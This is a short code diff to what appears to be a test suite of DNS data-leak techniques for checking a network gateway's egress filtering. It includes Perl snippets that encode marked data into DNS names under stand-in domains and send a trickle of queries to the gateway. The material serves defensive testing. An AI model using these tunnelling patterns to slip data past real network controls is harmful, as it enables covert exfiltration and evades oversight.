@@ -30,7 +30,9 @@ const tried = (address: string) => `out(syn($_, 443)), out(syn($_, 80)), out(udp
 export const names: readonly Technique[] = [
   {
     name: 'data in names that no list has, asked of the gateway',
-    how: asking(`map { mark() . $_ } '.example.org', '.example.test', '.api.example.test', '.wild.test.example.org', '.incus', ''`),
+    how: asking(
+      `map { mark() . $_ } '.example.org', '.example.test', '.api.example.test', '.wild.test.example.org', '.incus', ''`,
+    ),
     arrives: { host: everyMode, internet: publicly },
     bare: ['host', 'internet'],
   },
@@ -103,7 +105,7 @@ export const names: readonly Technique[] = [
   },
   {
     name: 'data in many short names below a listed wildcard (a trickle)',
-    how: `for my $number (1 .. 250) { out(udp($gw4, 53, data => ask(mark() . "n$number.wild.test"))); select(undef, undef, undef, 0.01) }`,
+    how: `for my $number (1 .. ($listed ? 250 : 20)) { out(udp($gw4, 53, data => ask(mark() . "n$number.wild.test"))); select(undef, undef, undef, 0.01) }`,
     arrives: { host: everyMode, internet: everyMode },
     bare: ['host', 'internet'],
     // 120 at first, then one each second, and a few that are asked for twice on a busy machine.
